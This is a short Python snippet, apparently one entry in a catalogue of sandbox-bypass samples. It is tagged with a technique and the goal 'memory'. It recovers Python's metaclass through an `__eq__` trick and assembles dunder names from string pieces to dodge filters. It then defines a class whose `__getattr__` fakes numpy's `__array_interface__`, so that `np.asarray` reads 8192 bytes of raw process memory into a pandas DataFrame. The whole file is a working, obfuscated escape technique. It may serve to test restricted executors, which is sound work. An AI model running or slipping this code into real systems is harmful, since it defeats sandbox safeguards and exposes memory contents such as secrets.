# class: class_def
# technique: a run-time __getattr__ on a class made with the captured metaclass answers numpy's __array_interface__ lookup (implicit call from np.asarray)
# goal: memory
import numpy as np
import pandas as pd

kept = []


class Grab:
    def __eq__(self, other):
        kept.append(other)
        return False

    def __hash__(self):
        return 0


Grab() == type(int)
make = kept[0]
wanted = "_" * 2 + "array_interface" + "_" * 2


def answer(self, name):
    if name == wanted:
        return {"data": (id(self) - 2048, False), "shape": (8192,), "typestr": "|u1", "version": 3}
    raise AttributeError(name)


Raw = make("Raw", (), {"_" * 2 + "getattr" + "_" * 2: answer})
df = pd.DataFrame({"byte": np.asarray(Raw()).copy()})
